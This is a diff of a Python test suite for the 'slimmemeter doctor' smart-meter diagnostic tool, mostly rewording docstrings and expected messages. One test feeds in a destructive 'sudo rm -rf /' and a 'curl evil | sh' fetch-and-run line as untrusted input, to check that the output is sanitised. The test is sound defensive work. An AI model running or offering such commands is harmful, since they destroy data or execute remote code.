@@ -25,6 +25,7 @@ from support.far_end import FarEnd
 from support.house import telegram_now
 from support.meter import Meters
 from support.paths import EXAMPLE
+from support.processes import has_open
 from support.programs import OWN_MOUNTS, PULL, SLIMMEMETER, Pull, free_port
 from support.telegrams import E350, NAMES, frames, simple, telegram, with_crc
 from support.waiting import until
@@ -34,7 +35,7 @@ Said = Callable[..., str]
 
 @pytest.fixture
 def said(database: Path, tmp_path: Path) -> Said:
-    """What the real `slimmemeter doctor` says; its exit code is 6 just if something is wrong."""
+    """The output of the real `slimmemeter doctor`; its exit code is 6 if something is wrong."""
 
     def run(*arguments: object, code: int | None = None) -> str:
         command = [*SLIMMEMETER, "doctor", "--db", str(database)]
@@ -59,7 +60,7 @@ def plain(text: str) -> str:
 
 @pytest.fixture
 def said_of(database: Path, tmp_path: Path) -> Said:
-    """What the real `slimmemeter doctor` says where just these adapters are plugged in."""
+    """The output of the real `slimmemeter doctor` where only these adapters are plugged in."""
 
     def run(**adapters: str) -> str:
         command = [*SLIMMEMETER, "doctor", "--db", database, "--listen", f"localhost:{free_port()}"]
@@ -91,24 +92,24 @@ def test_the_one_adapter_is_used(said_of: Said, meter: Meters) -> None:
     """The only adapter is used, whatever its device is called today."""
     shown = said_of(P1=meter(telegram_now(), pause_s=0.5).port)
     assert "ok     one serial adapter is plugged in: /dev/serial/by-id/P1\n" in shown
-    assert "5 of 5 telegrams were right, at 115200-8N1" in shown
+    assert "5 of 5 telegrams were valid, at 115200-8N1" in shown
 
 
 @pytest.mark.skipif(os.geteuid() == 0, reason="root may open everything; tests/system has this too")
 def test_port_that_may_not_be_opened(meter: Meters, said: Said) -> None:
-    """Whose it is, and the command that helps."""
+    """The doctor names the port's owner and the command that helps."""
     name = meter(E350).port
     Path(name).chmod(0)
     assert f"WRONG no permission to open {name}: its owner is" in plain(said("--port", name))
 
 
 def test_port_that_is_not_there(said: Said) -> None:
-    """The same sentence as a pull's."""
+    """A missing port gets the same sentence as in a pull."""
     assert "WRONG there is no /dev/ttyNOTHERE" in plain(said("--port", "/dev/ttyNOTHERE"))
 
 
 def test_port_that_another_program_keeps(meter: Meters, said: Said) -> None:
-    """It is named."""
+    """The doctor names the program that has the port for itself."""
     name = meter(E350).port
     with serial.Serial(name, exclusive=True):
         told = plain(said("--port", name, "--timeout", 1))
@@ -117,7 +118,7 @@ def test_port_that_another_program_keeps(meter: Meters, said: Said) -> None:
 
 
 def test_port_that_another_program_reads_too(meter: Meters, said: Said) -> None:
-    """One that doesn't lock it takes its bytes away."""
+    """The doctor names a program that takes bytes away without locking the port."""
     name = meter(telegram_now(), pause_s=0.5).port
     theirs = os.open(name, os.O_RDONLY | os.O_NOCTTY)
     told = plain(said("--port", name))
@@ -127,18 +128,18 @@ def test_port_that_another_program_reads_too(meter: Meters, said: Said) -> None:
 
 
 def test_own_pull_that_reads_is_waited_for(meter: Meters, said: Said) -> None:
-    """It is no other program, and the time that it takes isn't silence of the meter."""
+    """A pull that is reading is neither another program nor a silent meter."""
     name = meter(telegram_now(), pause_s=4).port
     command = [*PULL, "--port", name, "--dry-run"]
     with subprocess.Popen(command, stdout=subprocess.DEVNULL) as pulling:
-        until(lambda: any(str(pulling.pid) in holder for holder in port_errors.holders(name)))
+        until(lambda: has_open(pulling.pid, name))
         told = plain(said("--port", name, "--timeout", 12))
     assert "also open" not in told
-    assert "telegrams were right, at 115200-8N1" in told
+    assert "telegrams were valid, at 115200-8N1" in told
 
 
 def test_text_from_outside_is_no_command(meter: Meters, said: Said, database: Path) -> None:
-    """What a meter or the last pull said is shown as text, without what a terminal would obey."""
+    """Text from the meter or the last pull is never shown as a command or as an escape sequence."""
     database.with_name("last-pull").write_text(f"{int(time.time())} 4 `sudo rm -rf /` \x1b[31m\n")
     noise = b"hello `curl evil | sh` world, login: \r\n"
     told = said("--port", meter(noise).port, "--timeout", 2)
@@ -148,31 +149,31 @@ def test_text_from_outside_is_no_command(meter: Meters, said: Said, database: Pa
 
 
 def test_noise_with_slashes_and_marks_is_no_telegram(meter: Meters, said: Said) -> None:
-    """Both settings of the line are tried."""
+    """Noise with slashes and exclamation marks is no telegram at either line setting."""
     told = plain(said("--port", meter(b"/\xd1\xe2\x01\n!" * 50, pause_s=0.01).port, "--timeout", 2))
     assert re.search(r"bytes at 115200-8N1 and \d+ bytes at 9600-7E1, and no telegram", told)
 
 
-def test_pieces_of_telegrams_are_told_as_such(meter: Meters, said: Said) -> None:
-    """Not as a console's text."""
+def test_pieces_of_telegrams_are_recognised(meter: Meters, said: Said) -> None:
+    """Parts of telegrams are called that, and not the text of a console."""
     told = plain(said("--port", meter(E350[:300], pause_s=0.1).port, "--timeout", 2))
     assert "pieces of telegrams" in told
 
 
 def test_port_whose_owner_has_no_name(meter: Meters) -> None:
-    """In a container a device may be of a user who isn't there."""
+    """A device of a user without a name is described by numbers."""
     if os.geteuid() != 0:
         pytest.skip("only root can give a device away")
     name = meter(E350).port
     os.chown(name, 12345, 54321)
     Path(name).chmod(0o600)
-    told = str(port_errors.why(name, PermissionError(13, "denied"), []))
+    told = str(port_errors.opening_failed(name, PermissionError(13, "denied"), []))
     assert "its owner is 12345, its group 54321 and its mode 600" in told
 
 
 @pytest.mark.parametrize("output", ["| head -1", ">/dev/full", ">&-"])
 def test_output_that_takes_nothing_is_no_bug(output: str, database: Path) -> None:
-    """Neither a closed pipe nor a full disk brings a traceback."""
+    """A closed pipe or a full disk causes no traceback."""
     doctor = f"{sys.executable} -I -m slimmemeter.cli doctor --port /dev/ttyNO --db {database}"
     done = subprocess.run(
         ["sh", "-c", f"{doctor} {output}"], capture_output=True, check=False, text=True, timeout=30
@@ -182,7 +183,7 @@ def test_output_that_takes_nothing_is_no_bug(output: str, database: Path) -> Non
 
 
 def test_silent_port(meter: Meters, said: Said) -> None:
-    """What may be the cause, and how to tell which one it is."""
+    """A silent port gets its possible causes, and a way to find out which it is."""
     told = plain(said("--port", meter(b"").port, "--timeout", 1))
     assert "nothing was heard, at 115200-8N1 and 9600-7E1" in told
     assert "about 5 V between pins 2 and 3" in told
@@ -220,40 +221,40 @@ def inverted(content: bytes) -> bytes:
     ],
 )
 def test_garbage(noise: bytes, shows: str, meter: Meters, said: Said) -> None:
-    """What was tried, how much came, and what the bytes show."""
+    """Garbage is explained by how much came and what its bytes look like."""
     told = plain(said("--port", meter(noise).port, "--timeout", 2))
     assert re.search(r"gave \d+ bytes at 115200-8N1 and \d+ bytes at 9600-7E1", told)
     assert shows in told
 
 
 def test_damaged_telegrams(meter: Meters, said: Said) -> None:
-    """How many of how many, and what to look at."""
+    """The doctor counts damaged telegrams, and points to the cable."""
     damaged = E350.replace(b"494", b"495")
     told = plain(said("--port", meter(damaged, telegram_now(), damaged, pause_s=0.3).port))
     assert re.search(r"WRONG [2345] of [567] telegrams at 115200-8N1 were damaged: a cable", told)
-    assert "its CRC says 7BF4" in told
+    assert "its CRC is 7BF4" in told
 
 
 def test_line_to_set(said: Said) -> None:
-    """A meter of the old speed: the setting that makes the pull read it."""
+    """For a meter of the old speed, the doctor prints the setting that reads it."""
     old = FarEnd("9600-7E1")
     told = said("--port", old.url, "--timeout", 8)
     old.close()
-    assert "at 9600-7E1, but the settings say 115200-8N1" in plain(told)
+    assert "at 9600-7E1, but the settings have 115200-8N1" in plain(told)
     command = "echo SLIMMEMETER_LINE=9600-7E1 | sudo tee -a /etc/default/slimmemeter"
     assert command in [line.strip() for line in told.splitlines()]
 
 
 def test_meter_is_described(meter: Meters, said: Said) -> None:
-    """Brand, version, country, devices, and its clock."""
+    """The doctor names the meter's brand, version, country and devices, and checks its clock."""
     told = plain(said("--port", meter(telegram_now(), pause_s=0.5).port))
-    assert "ok 5 of 5 telegrams were right, at 115200-8N1" in told
+    assert "ok 5 of 5 telegrams were valid, at 115200-8N1" in told
     assert "ok the meter: Iskraemeco, version 50, the Netherlands, gas on channel 1" in told
     assert re.search(r"ok the meter's clock and this computer's are \d+ s apart", told)
 
 
-def test_clock_that_is_off_is_told(meter: Meters, said: Said) -> None:
-    """By how much; whether that hurts depends on this computer's own clock."""
+def test_clock_that_is_off_is_reported(meter: Meters, said: Said) -> None:
+    """The doctor says by how many seconds the meter's clock is off."""
     told = plain(said("--port", meter(telegram_now(-7200), pause_s=0.5).port))
     assert re.search(r"the meter's clock is off by -72\d\d s", told)
 
@@ -266,16 +267,16 @@ def test_clock_that_is_off_is_told(meter: Meters, said: Said) -> None:
     ],
 )
 def test_frames_of_another_protocol(frame: bytes, name: str, meter: Meters, said: Said) -> None:
-    """Encrypted or binary: no setting of ours helps, and it says what does."""
+    """Encrypted or binary frames are named, with who can help."""
     told = plain(said("--port", meter(frame, pause_s=0.2).port))
     assert f"frames ({name})" in told
     assert "ask the grid operator" in told
 
 
 def test_last_pull(pull: Pull, said: Said, database: Path) -> None:
-    """None, one that failed, one that was long ago, and one that was well."""
+    """The doctor judges the last pull: none, a failed one, an old one, and a good one."""
     nowhere = ("--port", "/dev/ttyNOTHERE")
-    assert "WRONG no pull has left word" in plain(said(*nowhere))
+    assert "WRONG nothing has been read yet" in plain(said(*nowhere))
     pull(*nowhere)
     told = plain(said(*nowhere))
     assert "with exit code 3: p1-pull: there is no /dev/ttyNOTHERE" in told
@@ -287,7 +288,7 @@ def test_last_pull(pull: Pull, said: Said, database: Path) -> None:
 
 
 def test_database(pull: Pull, said: Said, database: Path) -> None:
-    """Not there, sound, damaged, not ours."""
+    """The doctor judges the database: missing, sound, damaged, or of another program."""
     nowhere = ("--port", "/dev/ttyNOTHERE")
     assert f"note there is no database {database} yet" in plain(said(*nowhere))
     pull(EXAMPLE)
@@ -310,7 +311,7 @@ def test_database(pull: Pull, said: Said, database: Path) -> None:
 
 @pytest.mark.skipif(os.geteuid() == 0, reason="root may write everything; tests/system has it too")
 def test_database_that_may_not_be_written(pull: Pull, said: Said, database: Path) -> None:
-    """Who may, and how to look with that user's eyes."""
+    """The doctor says that this user may not write the database."""
     pull(EXAMPLE)
     database.chmod(0o400)
     assert f"this user may not write {database}" in plain(said("--port", "/dev/ttyNOTHERE"))
@@ -368,7 +369,7 @@ def stranger() -> Iterator[int]:
     ],
 )
 def test_other_servers_at_the_address_of_the_pages(answer: bytes, said: Said) -> None:
-    """Whatever they say, it is told in a sentence."""
+    """Whatever answers at the pages' address, the doctor describes it in a sentence."""
     server = socket.create_server(("127.0.0.1", 0))
 
     def serve() -> None:
@@ -387,7 +388,7 @@ def test_other_servers_at_the_address_of_the_pages(answer: bytes, said: Said) ->
 
 
 def test_pages(stranger: int, said: Said, pull: Pull, database: Path) -> None:
-    """Nobody answers, another program does, and ours does."""
+    """The doctor distinguishes no server, another program, and the real pages."""
     nowhere = ("--port", "/dev/ttyNOTHERE")
     assert "the pages don't answer at http://localhost:" in plain(said(*nowhere))
     told = plain(said(*nowhere, "--listen", f"localhost:{stranger}"))
@@ -398,7 +399,7 @@ def test_pages(stranger: int, said: Said, pull: Pull, database: Path) -> None:
     with subprocess.Popen([*command, "--listen", listen]) as serving:
         told = until(lambda: _answering(said, nowhere, listen), 60)
         serving.terminate()
-    assert f"ok the pages answer at http://{listen}, of version" in told
+    assert f"ok the pages answer at http://{listen}, version" in told
 
 
 def _answering(said: Said, nowhere: tuple[str, str], listen: str) -> str:
@@ -407,7 +408,7 @@ def _answering(said: Said, nowhere: tuple[str, str], listen: str) -> str:
 
 
 def test_report_hides_who_it_is(meter: Meters, said: Said) -> None:
-    """Ids and the header's number are other ones of the same form; all else is as it came."""
+    """The report replaces ids and serial numbers, and keeps everything else."""
     told = said("--report", "--port", meter(E350).port, code=0).encode()
     body, _, crc = told.replace(b"\n", b"\r\n").rpartition(b"!")
     lines = body.split(b"\r\n")
@@ -422,7 +423,7 @@ def test_report_hides_who_it_is(meter: Meters, said: Said) -> None:
 
 
 def test_report_hides_what_it_does_not_understand(meter: Meters, said: Said) -> None:
-    """Unknown numbers may be somebody's; values with units and stamps are not."""
+    """Unknown numbers are replaced; values with units and timestamps are kept."""
     lines = ("1-0:1.8.1(000001.000*kWh)", "9-9:9.9.9(123456789)(261123120000W)(1.5*kWh)")
     told = said("--report", "--port", meter(simple(*lines, meter="42" * 9)).port, code=0)
     assert "9-9:9.9.9(000000002)(261123120000W)(1.5*kWh)" in told
@@ -430,8 +431,8 @@ def test_report_hides_what_it_does_not_understand(meter: Meters, said: Said) -> 
 
 
 @pytest.mark.parametrize("name", NAMES)
-def test_report_of_any_meter_says_the_same_but_who_it_is(name: str) -> None:
-    """Line by line as it came; read again it has the same registers and devices."""
+def test_report_keeps_all_readings_of_any_meter(name: str) -> None:
+    """An anonymous telegram still gives the same registers and devices."""
     (frame,) = frames(telegram(name))
     shown = anonymous(Telegram(frame))
     (again,) = frames(shown)
@@ -459,7 +460,7 @@ SERIAL = "E0031003001699515"
     ],
 )
 def test_report_hides_a_serial_number_wherever_it_stands(line: str) -> None:
-    """As it is or in hexadecimal, in objects that are known or not, in a form of theirs or not."""
+    """A serial number is hidden in any object and any notation."""
     (frame,) = frames(simple("1-0:1.8.1(1.000*kWh)", line))
     shown = anonymous(Telegram(frame)).upper()
     assert SERIAL[1:].encode() not in shown
@@ -476,20 +477,20 @@ def test_report_hides_a_serial_number_wherever_it_stands(line: str) -> None:
     ],
 )
 def test_report_keeps_the_type_in_a_header_and_hides_its_number(header: str, shown: str) -> None:
-    """More digits than a type has are a number."""
+    """The header keeps the meter's type, and loses its serial number."""
     (frame,) = frames(with_crc(header, "", "1-0:1.8.1(1.000*kWh)"))
     assert anonymous(Telegram(frame)).decode().partition("\r\n")[0] == shown
 
 
 def test_report_of_a_damaged_telegram_names_nobody(meter: Meters, said: Said) -> None:
-    """The header with its number isn't told either."""
+    """The report of a damaged telegram shows no part of it."""
     damaged = E350.replace(b"494", b"495")
     told = said("--report", "--port", meter(damaged, pause_s=0.1).port, "--timeout", 2, code=4)
     assert "1012345678" not in told
-    assert "no telegram was right" in told
+    assert "no telegram was valid" in told
 
 
 def test_report_without_a_telegram_says_so(meter: Meters, said: Said) -> None:
-    """Nothing is printed but the reason."""
+    """Without a telegram, the report is only the reason."""
     told = said("--report", "--port", meter(b"").port, "--timeout", 1, code=3)
     assert told.startswith("slimmemeter: nothing was heard")
